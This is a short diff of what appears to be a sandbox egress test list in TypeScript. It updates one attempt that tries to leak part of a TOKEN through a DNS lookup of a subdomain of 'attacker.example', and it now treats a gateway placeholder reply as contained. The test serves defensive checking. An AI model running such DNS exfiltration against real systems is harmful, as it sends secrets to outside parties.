@@ -70,10 +70,11 @@ const programs: ReadonlyArray<Attempt> = [
     unaudited: nowhere
   },
   {
+    // A machine's names are answered beside it, with a placeholder that leads to the gateway: nobody outside is asked.
     name: "a name that is asked for",
     command: socket(
       "node:dns",
-      'm.resolve(TOKEN.slice(-20) + ".attacker.example", (error) => said(error ?? "ESCAPED"))'
+      'm.resolve(TOKEN.slice(-20) + ".attacker.example", (error, found) => said(error ?? (String(found) === "11.0.0.1" ? "a placeholder" : "ESCAPED")))'
     ),
     unaudited: nowhere
   },
